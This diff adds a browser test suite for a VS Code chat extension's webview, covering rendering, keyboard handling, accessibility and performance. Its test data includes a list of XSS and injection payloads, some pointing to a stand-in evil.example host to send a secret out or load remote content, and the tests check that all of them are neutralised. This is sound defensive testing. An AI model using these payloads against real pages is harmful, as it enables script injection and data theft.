@@ -1,0 +1,402 @@
+// The built page in a real browser under its real security policy, with a host that only records.
+// Needs Chromium; says so and skips where there is none.
+
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import { createRequire } from 'node:module';
+import path from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { build } from 'esbuild';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import type { ChatState, MessageItem, ToHost, ToWebview } from '../../../src/protocol/chatProtocol';
+import { createChatHtml } from '../../../src/ui/chat/chatHtml';
+import { createChatStrings } from '../../../src/ui/chat/chatStrings';
+import { untranslated } from '../../../src/ui/localise';
+
+declare global {
+  interface Window {
+    posted: ToHost[];
+    isHacked?: boolean;
+  }
+}
+
+/** Tests are started in the repository's root. */
+const root = process.cwd();
+const origin = 'http://chat.test';
+const { findBrowser } = (await import(
+  pathToFileURL(path.join(root, 'scripts/dev/browser.mjs')).href
+)) as typeof import('../../../scripts/dev/browser.mjs');
+const browserPath = findBrowser();
+
+const message = (id: string, content: string, change: Partial<MessageItem> = {}): MessageItem => ({
+  id,
+  role: 'assistant',
+  content,
+  reasoning: '',
+  status: 'complete',
+  elsewhere: false,
+  error: null,
+  modelName: 'Guide',
+  stats: null,
+  branch: null,
+  createdAt: 1,
+  ...change,
+});
+
+const state = (messages: readonly MessageItem[], change: Partial<ChatState> = {}): ChatState => ({
+  conversations: [{ id: 'c', name: 'C', updatedAt: Date.now(), answering: false }],
+  hasMoreConversations: false,
+  conversationId: 'c',
+  messages,
+  earlier: 0,
+  loading: false,
+  answering: false,
+  draft: { text: '', revision: 1 },
+  model: { id: 'm', name: 'M', remote: false, starter: true, state: 'ready', progress: null },
+  notice: null,
+  undo: null,
+  ...change,
+});
+
+const attacks = [
+  '<script>isHacked=1</script>',
+  '<img src=x onerror="isHacked=1">',
+  '<svg onload="isHacked=1"></svg>',
+  '<iframe srcdoc="<script>parent.isHacked=1</script>"></iframe>',
+  '<a href="javascript:isHacked=1" id=a>x</a>',
+  '[x](javascript:isHacked=1)',
+  '[x](JaVaScRiPt:isHacked=1 "t")',
+  '[x](data:text/html,<script>parent.isHacked=1</script>)',
+  '[x](command:workbench.action.quit)',
+  '![x](https://evil.example/?q=secret)',
+  '![x](javascript:isHacked=1)',
+  '[x]: https://evil.example/"onmouseover="isHacked=1\n\n[x]',
+  '[x](https://jan.ai/"onclick="isHacked=1)',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><input name=a><button>go</button></form>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=isHacked=1>',
+  '<noscript><p title="</noscript><img src=x onerror=isHacked=1>">',
+  '```"><img src=x onerror=isHacked=1>\ncode\n```',
+  '```html\n<img src=x onerror=isHacked=1><script>isHacked=1</script>\n```',
+  '```xml\n</code></pre><img src=x onerror=isHacked=1>\n```',
+  '`<img src=x onerror=isHacked=1>`',
+  '| <img src=x onerror=isHacked=1> | b |\n|---|---|\n| <script>isHacked=1</script> | c |',
+  '&lt;img src=x onerror=isHacked=1&gt;',
+  '<jan-chat></jan-chat><vscode-button></vscode-button>',
+  '<div id="posted"></div><a name="acquireVsCodeApi"></a>',
+];
+
+describe('The page', function () {
+  this.timeout(30_000);
+  let browser: Browser;
+  let page: Page;
+  let bundle: string;
+  let styles: string;
+  const requested: string[] = [];
+  const complaints: string[] = [];
+
+  before(async function () {
+    if (browserPath === undefined) {
+      console.log('      skipped: no Chromium on this machine (apt-get install chromium, or JAN_BROWSER=/path)');
+      this.skip();
+    }
+    const result = await build({
+      entryPoints: [path.join(root, 'webview/main.ts')],
+      bundle: true,
+      write: false,
+      format: 'iife',
+      platform: 'browser',
+      target: 'es2022',
+      tsconfig: path.join(root, 'webview/tsconfig.json'),
+      define: { 'process.env.NODE_ENV': '"production"' },
+    });
+    bundle = result.outputFiles[0]!.text;
+    styles = fs.readFileSync(path.join(root, 'webview/main.css'), 'utf8');
+    browser = await chromium.launch({ executablePath: browserPath, args: ['--no-sandbox', '--disable-gpu'] });
+  });
+
+  after(async () => browser?.close());
+
+  beforeEach(async () => {
+    requested.length = 0;
+    complaints.length = 0;
+    page = await browser.newPage({ viewport: { width: 340, height: 700 } });
+    page.on('pageerror', (error) => complaints.push(error.message));
+    page.on('console', (entry) => {
+      if (entry.type() === 'error') {
+        complaints.push(entry.text());
+      }
+    });
+    const html = createChatHtml({
+      cspSource: origin,
+      nonce: 'test-nonce',
+      language: 'en',
+      title: 'Jan',
+      script: `${origin}/main.js`,
+      styles: [`${origin}/main.css`],
+    });
+    await page.addInitScript(() => {
+      window.posted = [];
+      Object.assign(window, {
+        acquireVsCodeApi: () => ({
+          postMessage: (one: ToHost) => void window.posted.push(one),
+          getState: () => undefined,
+          setState: () => undefined,
+        }),
+      });
+    });
+    await page.route('**/*', (route) => {
+      const url = route.request().url();
+      requested.push(url);
+      switch (url) {
+        case `${origin}/`:
+          return route.fulfill({ contentType: 'text/html', body: html });
+        case `${origin}/main.js`:
+          return route.fulfill({ contentType: 'text/javascript', body: bundle });
+        case `${origin}/main.css`:
+          return route.fulfill({ contentType: 'text/css', body: styles });
+        default:
+          return route.abort();
+      }
+    });
+    await page.goto(`${origin}/`);
+    await page.waitForFunction(() => window.posted.some((one) => one.type === 'ready'));
+  });
+
+  afterEach(async () => page.close());
+
+  const say = (one: ToWebview): Promise<void> => page.evaluate((data) => window.postMessage(data, '*'), one);
+  let sequence = 0;
+  const show = (shown: ChatState): Promise<void> =>
+    say({ type: 'state', sequence: (sequence = 1), state: shown, strings: createChatStrings(untranslated) });
+  const posted = (): Promise<ToHost[]> => page.evaluate(() => window.posted.splice(0));
+  const drawn = (): Promise<unknown> => page.waitForFunction(() => document.querySelector('jan-message .block') !== null && document.querySelector('.is-pending') === null);
+
+  it('starts without a complaint of its policy', async () => {
+    await show(state([]));
+    await page.waitForSelector('.suggestion');
+    assert.deepEqual(complaints, []);
+    assert.deepEqual(requested.filter((url) => !url.startsWith(origin)), []);
+  });
+
+  for (const attack of attacks) {
+    it(`shows and does nothing of ${attack.replace(/\s+/g, ' ').slice(0, 60)}`, async () => {
+      for (const status of ['streaming', 'complete'] as const) {
+        await show(state([message('u', attack, { role: 'user' }), message('a', attack, { status, reasoning: attack })]));
+        await drawn();
+      }
+      const found = await page.evaluate(() => {
+        const views = [...document.querySelectorAll('jan-markdown')];
+        const elements = views.flatMap((view) => [...view.querySelectorAll('*')]);
+        return {
+          texts: views.length,
+          // The code block's own buttons have no attributes of the text's making.
+          tags: elements.map((one) => one.localName),
+          handlers: elements.flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'style' || name === 'src'),
+          links: elements.map((one) => one.getAttribute('href')).filter((href) => href !== null && !/^https?:\/\//.test(href)),
+          ids: elements.filter((one) => one.id !== '' || one.hasAttribute('name')).length,
+        };
+      });
+      assert.equal(found.texts, 3);
+      const forbidden = ['script', 'img', 'svg', 'iframe', 'style', 'link', 'meta', 'base', 'form', 'input', 'object', 'embed', 'math', 'jan-chat', 'vscode-button', 'noscript'];
+      assert.deepEqual(found.tags.filter((tag) => forbidden.includes(tag)), []);
+      assert.deepEqual(found.handlers, []);
+      assert.deepEqual(found.links, []);
+      assert.equal(found.ids, 0);
+      assert.equal(await page.evaluate(() => window.isHacked), undefined);
+      assert.deepEqual(requested.filter((url) => !url.startsWith(origin)), []);
+      assert.deepEqual(complaints, []);
+    });
+  }
+
+  it('opens a link through the host and never follows it', async () => {
+    await show(state([message('a', 'See [docs](https://jan.ai/docs).')]));
+    await drawn();
+    await posted();
+    await page.click('jan-markdown a');
+    assert.deepEqual(await posted(), [{ type: 'openLink', url: 'https://jan.ai/docs' }]);
+    assert.equal(page.url(), `${origin}/`);
+  });
+
+  it('copies and inserts the very text of a block of code, coloured or not', async () => {
+    const code = 'const a = "<b>" && `x`;\n\n  return a; // é';
+    await show(state([message('a', `\`\`\`ts\n${code}\n\`\`\``)]));
+    await page.waitForSelector('.hljs-keyword');
+    await posted();
+    await page.click('.code-header [aria-label="Copy code"]');
+    await page.click('.code-header [aria-label="Insert at cursor"]');
+    assert.deepEqual(await posted(), [{ type: 'copy', text: code }, { type: 'insert', text: code }]);
+  });
+
+  it('sends with Enter, breaks with Shift+Enter, and leaves an input method alone', async () => {
+    await show(state([]));
+    await page.waitForSelector('textarea');
+    await posted();
+    await page.focus('textarea');
+    await page.keyboard.type('a');
+    await page.keyboard.press('Shift+Enter');
+    await page.keyboard.type('b');
+    const composing = await page.evaluate(() => {
+      const box = document.querySelector('textarea')!;
+      box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }));
+      box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, cancelable: true }));
+      return window.posted.filter((one) => one.type === 'send').length;
+    });
+    assert.equal(composing, 0);
+    await page.keyboard.press('Enter');
+    const said = await posted();
+    assert.deepEqual(said.at(-1), { type: 'send', conversationId: 'c', text: 'a\nb' });
+    assert.deepEqual(said.at(-2), { type: 'draft', conversationId: 'c', text: 'a\nb' });
+    assert.equal(await page.inputValue('textarea'), '');
+    // Not twice, until the host has answered.
+    await page.keyboard.type('c');
+    await page.keyboard.press('Enter');
+    assert.ok(!(await posted()).some((one) => one.type === 'send'));
+  });
+
+  it('stops with Escape, recalls the last message with the up key', async () => {
+    const thread = [message('u', 'Last question', { role: 'user' }), message('a', 'x', { status: 'streaming' })];
+    await show(state(thread, { answering: true }));
+    await drawn();
+    await posted();
+    await page.focus('textarea');
+    await page.keyboard.press('Escape');
+    assert.deepEqual(await posted(), [{ type: 'stop' }]);
+    await page.keyboard.press('ArrowUp');
+    assert.equal(await page.inputValue('textarea'), 'Last question');
+  });
+
+  it('asks for the state when a delta is missing', async () => {
+    await show(state([message('a', 'x')]));
+    await drawn();
+    await posted();
+    await say({ type: 'delta', sequence: sequence + 2, changes: [] });
+    await page.waitForFunction(() => window.posted.length > 0);
+    assert.deepEqual(await posted(), [{ type: 'resync' }]);
+  });
+
+  it('follows a growing answer, until the reader scrolls up', async () => {
+    const long = Array.from({ length: 60 }, (_, i) => `Paragraph ${i}.`).join('\n\n');
+    await show(state([message('a', long, { status: 'streaming' })], { answering: true }));
+    await drawn();
+    const distance = (): Promise<number> =>
+      page.evaluate(() => {
+        const scroller = document.querySelector('.scroller')!;
+        return Math.round(scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight);
+      });
+    await page.waitForFunction(() => {
+      const scroller = document.querySelector('.scroller')!;
+      return scroller.scrollTop > 100 && scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 2;
+    });
+    await page.hover('.scroller');
+    await page.mouse.wheel(0, -300);
+    await page.waitForSelector('.jump');
+    const before = await distance();
+    await say({ type: 'delta', sequence: 2, changes: [{ kind: 'text', id: 'a', content: '\n\nmore\n\nand more' }] });
+    await page.waitForFunction(() => document.body.textContent!.includes('and more'));
+    assert.ok((await distance()) > before);
+    await page.click('.jump');
+    await page.waitForSelector('.jump', { state: 'detached' });
+    assert.ok((await distance()) < 2);
+  });
+
+  it('announces beginning and end, and no tokens', async () => {
+    await show(state([message('u', 'Hi', { role: 'user' })]));
+    await say({ type: 'delta', sequence: 2, changes: [{ kind: 'fields', fields: { answering: true } }] });
+    await page.waitForFunction(() => document.querySelector('.announcer')!.textContent === 'Generating');
+    await show(state([message('u', 'Hi', { role: 'user' }), message('a', 'One two', { status: 'streaming' })], { answering: true }));
+    await say({
+      type: 'delta',
+      sequence: 2,
+      changes: [{ kind: 'message', message: message('a', 'One two three') }, { kind: 'fields', fields: { answering: false } }],
+    });
+    await page.waitForFunction(() => document.querySelector('.announcer')!.textContent === 'Response complete, 3 words');
+    assert.equal(await page.getAttribute('[role=log]', 'aria-live'), 'off');
+  });
+
+  it('is accessible: messages, history, welcome', async () => {
+    const axe = fs.readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+    const check = async (what: string): Promise<void> => {
+      // As a debugger would: the page's policy lets no script in.
+      const { violations } = (await page.evaluate(`${axe}; axe.run({ rules: { 'color-contrast': { enabled: false } } })`)) as {
+        violations: { id: string; nodes: { html: string }[] }[];
+      };
+      assert.deepEqual(violations.map(({ id, nodes }) => `${id}: ${nodes[0]!.html}`), [], what);
+    };
+    await show(state([]));
+    await page.waitForSelector('.suggestion');
+    await check('welcome');
+    const branch = { index: 1, count: 2, previousId: null, nextId: 'x' };
+    const error = { code: 'engine-crashed', message: 'Ended.', actions: ['retry', 'showLog'] as const };
+    await show(
+      state(
+        [
+          message('u', 'Hi', { role: 'user' }),
+          message('a', '# H\n\n- x\n\n```js\n1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |', { branch, reasoning: 'why' }),
+          message('b', 'partial', { status: 'failed', error }),
+        ],
+        { undo: { conversationId: 'd', name: 'D' }, notice: error },
+      ),
+    );
+    await drawn();
+    await check('messages');
+    await page.click('.history-button');
+    await page.waitForSelector('.row');
+    await check('history');
+  });
+
+  it('works the history by keyboard', async () => {
+    await show(state([], { conversations: ['One', 'Two', 'Three'].map((name) => ({ id: name, name, updatedAt: Date.now(), answering: false })) }));
+    await page.focus('.history-button');
+    await posted();
+    await page.keyboard.press('Enter');
+    await page.waitForFunction(() => document.activeElement?.classList.contains('history-search'));
+    await page.keyboard.press('ArrowDown');
+    await page.keyboard.press('ArrowDown');
+    await page.keyboard.press('F2');
+    await page.waitForFunction(() => document.activeElement?.classList.contains('rename'));
+    await page.keyboard.press('Control+a');
+    await page.keyboard.type('Deux');
+    await page.keyboard.press('Enter');
+    assert.deepEqual(await posted(), [{ type: 'renameConversation', id: 'Two', name: 'Deux' }]);
+    await page.waitForFunction(() => (document.activeElement as HTMLElement | null)?.dataset['id'] === 'Two');
+    await page.keyboard.press('Delete');
+    assert.deepEqual(await posted(), [{ type: 'deleteConversation', id: 'Two' }]);
+    await page.keyboard.press('Escape');
+    await page.waitForFunction(() => document.activeElement?.classList.contains('history-button'));
+  });
+
+  it('lets an answer grow below 1,000 messages as smoothly as below one', async function () {
+    this.timeout(120_000);
+    const content = 'A paragraph with **bold** and `code`.\n\n- one\n- two\n\n```ts\nconst a = 1;\n```';
+    const messages = Array.from({ length: 1000 }, (_, i) => message(`m${i}`, content, { role: i % 2 === 0 ? 'user' : 'assistant' }));
+    await show(state(messages));
+    // The end is there at once, the rest while nothing else is to do.
+    await drawn();
+    await page.waitForFunction(() => document.querySelectorAll('jan-message').length === 1000);
+    await page.waitForFunction(() => document.querySelector('.is-pending') === null);
+    const growing = async (count: number): Promise<number> => {
+      const first = sequence + 1;
+      return page.evaluate(
+        async ([from, to]) => {
+          const started = performance.now();
+          for (let next = from!; next < to!; next++) {
+            const changes = [{ kind: 'text', id: 'm999', content: ` more ${next}` }];
+            window.postMessage({ type: 'delta', sequence: next, changes }, '*');
+            await new Promise(requestAnimationFrame);
+          }
+          return (performance.now() - started) / (to! - from!);
+        },
+        [first, (sequence = first + count - 1) + 1],
+      );
+    };
+    const long = await growing(40);
+    await show(state(messages.slice(-2)));
+    await page.waitForFunction(() => document.querySelectorAll('jan-message').length === 2);
+    const short = await growing(40);
+    assert.ok(long < short * 3 + 16, `a frame of a growing answer takes ${long.toFixed(1)} ms, in a short thread ${short.toFixed(1)} ms`);
+  });
+});
